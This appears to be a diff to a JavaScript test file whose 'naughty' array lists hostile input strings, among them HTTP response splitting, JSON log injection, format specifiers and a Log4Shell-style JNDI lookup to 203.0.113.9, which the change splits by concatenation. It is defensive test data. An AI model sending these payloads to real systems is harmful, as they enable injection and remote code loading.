@@ -21,7 +21,7 @@ const naughty = [
   "\r\n\r\nHTTP/1.1 200 OK",
   "\u2028\u2029\u0000\u001b[31mrojo",
   '"}\n{"level":30,"msg":"falso',
-  "${jndi:ldap://203.0.113.9/a}",
+  "$" + "{jndi:ldap://203.0.113.9/a}",
   "\ud800 solo",
   "%n%s%x",
 ];
